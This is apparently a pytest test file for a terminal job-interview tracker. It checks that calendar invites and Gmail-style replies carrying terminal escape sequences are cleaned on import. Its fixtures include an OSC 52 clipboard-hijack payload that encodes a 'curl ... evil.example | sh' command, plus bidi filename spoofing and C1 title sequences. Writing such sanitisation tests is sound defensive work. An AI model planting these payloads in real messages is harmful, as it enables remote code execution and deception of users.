"""Invites (.ics) and replies (.eml) with terminal controls in every field, written the way
real producers write them (Google Calendar's folded CRLF lines with raw UTF-8, quoted CN
parameters; Gmail's RFC 2047 headers and quoted-printable bodies). Every text is cleaned as
it enters (tui.text_safety.clean_stored), so nothing but clean text reaches the board, and
the same invite imported again is recognised, not added twice."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from tui.exchange import invite, reply
from tui.model import Application, Interviewer, Profile, Stage
from tui.store import Store
from tui.text_safety import clean_stored

SCRIPT = Path(sys.executable).parent / "followup-tui"
HIJACK = "\x1b]52;c;" + base64.b64encode(b"curl -s http://evil.example/x | sh").decode() + "\x1b\\"
"""An OSC 52 clipboard write, as in issue 17."""
COLOUR = "\x1b[31m"
C1 = "\u009b31m\u009d0;title\u0007"
BIDI = "\u202etxt.exe"
INVISIBLE = "\u200b\ufeff\x7f\x0b\x0c\x00"
DASH = " \u2013 "
KEEP = "Zoë Ångström 🎉 שלום"
"""What a user legitimately writes: kept exactly."""


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from strings(key)
            yield from strings(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from strings(item)


def assert_clean(value: Any) -> None:
    """No text that the entry cleaning would change, and no remains of a sequence."""
    for text in strings(value):
        assert clean_stored(text) == text, repr(text)
        for remains in ("[31m", "52;c;", "0;title", "\u202e"):
            assert remains not in text, repr(text)


def fold(line: str) -> bytes:
    """RFC 5545 folding at 75 octets, as Google does it (between characters)."""
    out, current = [], b""
    for character in line:
        encoded = character.encode("utf-8")
        if len(current) + len(encoded) > 75:
            out.append(current)
            current = b" "
        current += encoded
    out.append(current)
    return b"\r\n".join(out) + b"\r\n"


def text_value(text: str) -> str:
    """An iCalendar TEXT value escaped as producers do (backslash, ';', ',', newline)."""
    return text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def hostile_invite(sequence: int = 0, hour: int = 15) -> bytes:
    lines = [
        "BEGIN:VCALENDAR",
        "PRODID:-//Google Inc//Google Calendar 70.9054//EN",
        "VERSION:2.0",
        "CALSCALE:GREGORIAN",
        "METHOD:REQUEST",
        "BEGIN:VEVENT",
        f"DTSTART:20261208T{hour}0000Z",
        f"DTEND:20261208T{hour}4500Z",
        "DTSTAMP:20261201T182231Z",
        f'ORGANIZER;CN="Priya {COLOUR}Shah{C1}":mailto:priya.shah@acme.example',
        f"UID:4kq9d2v1m3bt7e8s0j5rnc6p1h{COLOUR}@google.com",
        "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;"
        f'CN="{KEEP} {BIDI}";X-NUM-GUESTS=0:mailto:zoe@acme.example',
        "ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;"
        "CN=alex.morgan@gmail.com;X-NUM-GUESTS=0:mailto:alex.morgan@gmail.com",
        "DESCRIPTION:"
        + text_value(
            f"Join with Zoom {HIJACK}\nhttps://zoom.us/j/123456{COLOUR}\n{INVISIBLE}{KEEP}"
        ),
        "LOCATION:" + text_value(f"https://zoom.us/j/123456 {C1}"),
        f"SEQUENCE:{sequence}",
        "STATUS:CONFIRMED",
        "SUMMARY:" + text_value(f"Interview: Data Analyst{COLOUR} \u2013 Acme{HIJACK}{BIDI}"),
        "TRANSP:OPAQUE",
        "END:VEVENT",
        "END:VCALENDAR",
    ]
    return b"".join(fold(line) for line in lines)


def script(*argv: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(SCRIPT), *argv], capture_output=True, text=True, env=env, timeout=60, check=False
    )


def env_for(home: Path) -> dict[str, str]:
    config = home / "config"
    config.mkdir(parents=True, exist_ok=True)
    (config / "config.toml").write_text('timezone = "UTC"\n', encoding="utf-8")
    return {**os.environ, "FOLLOWUP_TUI_CONFIG_DIR": str(config), "TZ": "UTC"}


def clean_run(board: Path, command: str, source: Path, *args: str, env: dict[str, str]) -> Any:
    """Run the command on the file: it succeeds, prints nothing raw, and the board's one
    card is clean (returned, as stored)."""
    done = script("--db", str(board), command, str(source), *args, env=env)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout + done.stderr and "\x9b" not in done.stdout
    [document] = board_documents(board)
    assert_clean(document)
    return document


def board_documents(board: Path) -> list[Any]:
    return list(json.loads(board.read_text(encoding="utf-8"))["applications"].values())


def test_an_invite_is_read_clean_and_keeps_what_people_write() -> None:
    [found], problems = invite.read_invites(
        hostile_invite(), my_addresses=["alex.morgan@gmail.com"]
    )
    assert problems == []
    assert_clean([found.uid, found.summary, found.company, found.role, found.notes, found.url])
    assert_clean([(person.name, person.email) for person in found.interviewers])
    assert found.interviewers[0].name == "Priya Shah"
    assert found.interviewers[1].name == f"{KEEP} \u2067txt.exe\u2069"  # RLO made an isolate
    assert found.uid == "4kq9d2v1m3bt7e8s0j5rnc6p1h@google.com"
    assert KEEP in found.notes and "https://zoom.us/j/123456" in found.notes


def test_a_hostile_invite_imported_twice_is_one_clean_card(tmp_path: Path) -> None:
    env = env_for(tmp_path)
    board = tmp_path / "board.json"
    source = tmp_path / "invite.ics"
    source.write_bytes(hostile_invite())
    clean_run(board, "import", source, "--yes", env=env)
    # The same invite again is recognised by its UID (cleaned the same way both times).
    again = script("--db", str(board), "import", str(source), "--yes", env=env)
    assert again.returncode == 0 and "Nothing to import." in again.stdout, again.stdout
    assert len(board_documents(board)) == 1
    # And its reschedule (SEQUENCE 1, an hour later) moves that card.
    source.write_bytes(hostile_invite(sequence=1, hour=16))
    moved = script("--db", str(board), "import", str(source), "--yes", env=env)
    assert moved.returncode == 0 and "Updated card 1" in moved.stdout, moved.stdout
    [document] = board_documents(board)
    assert_clean(document)
    assert document["interviewed_at"].startswith("2026-12-08T16:00")


def encoded_word(text: str) -> str:
    return "=?UTF-8?B?" + base64.b64encode(text.encode("utf-8")).decode() + "?="


def quoted_printable(text: str) -> str:
    import quopri

    return quopri.encodestring(text.encode("utf-8")).decode("ascii")


def hostile_reply() -> bytes:
    """As Gmail writes a message: encoded-word headers, a quoted-printable body."""
    body = (
        f"Hi Alex,{COLOUR}\n\nThanks for your time {HIJACK}{BIDI}. We will decide by"
        f" Friday.{C1}{INVISIBLE}\n\n{KEEP}\n\nOn Tue, Dec 8, 2026 at 3:12 PM Alex wrote:\n> hi\n"
    )
    message = (
        f"From: {encoded_word(f'Priya {COLOUR}Shah{BIDI}')} <priya.shah@acme.example>\r\n"
        "To: Alex Morgan <alex.morgan@gmail.com>\r\n"
        f"Subject: {encoded_word(f'Re: Thank you{HIJACK}{DASH}Data Analyst{C1}')}\r\n"
        "Date: Wed, 16 Dec 2026 10:15:00 +0000\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: text/plain; charset="UTF-8"\r\n'
        "Content-Transfer-Encoding: quoted-printable\r\n\r\n" + quoted_printable(body)
    )
    return message.encode("ascii")


def test_a_reply_is_read_clean_and_keeps_what_people_write() -> None:
    message = reply.read_reply(hostile_reply())
    assert_clean([message.name, message.email, message.subject, message.text])
    assert message.name == "Priya Shah\u2067txt.exe\u2069"
    assert message.subject == "Re: Thank you \u2013 Data Analyst"
    assert KEEP in message.text and "decide by Friday." in message.text
    pasted = reply.reply_from_text(
        f"From: Priya {COLOUR}Shah <priya.shah@acme.example>\n\nHello{HIJACK} {BIDI}{C1}"
    )
    assert_clean([pasted.name, pasted.email, pasted.subject, pasted.text])
    assert pasted.name == "Priya Shah" and pasted.email == "priya.shah@acme.example"


def test_a_hostile_reply_recorded_on_its_card_is_clean(tmp_path: Path) -> None:
    env = env_for(tmp_path)
    board = tmp_path / "board.json"
    with Store(board) as store:
        store.save_profile(Profile(name="Alex Morgan", email="alex.morgan@gmail.com"))
        store.add(
            Application(
                company="Acme",
                role="Data Analyst",
                interviewed_at=datetime(2026, 12, 8, 15, 0, tzinfo=UTC),
                stage=Stage.THANKED,
                interviewers=(Interviewer(name="Priya Shah", email="priya.shah@acme.example"),),
            )
        )
    source = tmp_path / "reply.eml"
    source.write_bytes(hostile_reply())
    document = clean_run(board, "reply", source, "--noted", env=env)
    recorded = [event for event in document["history"] if event["kind"] == "reply"]
    assert recorded[0]["details"]["subject"] == "Re: Thank you \u2013 Data Analyst"
    # The same message again is known (its sender and date match), not recorded twice.
    again = script("--db", str(board), "reply", str(source), env=env)
    assert again.returncode == 0 and "Already recorded" in again.stdout, again.stdout
